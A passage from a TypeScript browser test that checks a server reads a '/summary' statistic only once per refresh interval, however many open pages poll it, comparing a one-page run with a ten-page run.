          const polls = run.open.map(
            (w, i) => w.requests.slice(run.asked[i]).filter((u) => u.endsWith('/summary')).length,
          );
          return { calls: total(calls), reads: calls.get('stats') ?? 0, polls };
        }) as [
          { calls: number; reads: number; polls: number[] },
          { calls: number; reads: number; polls: number[] },
        ];
        // Every page kept asking...
        for (const polls of [...a.polls, ...b.polls]) expect(polls).toBeGreaterThanOrEqual(3);
        expect(b.polls.reduce((x, y) => x + y, 0)).toBeGreaterThan(a.polls[0] ?? 0);
        // ...and each server read the summary once per interval, however many asked.
        for (const run of [a, b]) {
          expect(run.reads).toBeGreaterThan(0);
          expect(run.reads).toBeLessThanOrEqual(windowMs / refreshMs + 1);
        }
        // The same reads and queries, give or take the one interval where the window starts.
        expect(b.reads).toBeLessThanOrEqual(a.reads + 1);
        expect(b.calls).toBeLessThanOrEqual(a.calls + Math.ceil(a.calls / a.reads) + 2);
      } finally {
        for (const run of [one, ten]) {
          for (const w of run.open) await w.page.close();
          await run.own.close();
        }
      }
    }, 60_000);
  });
}
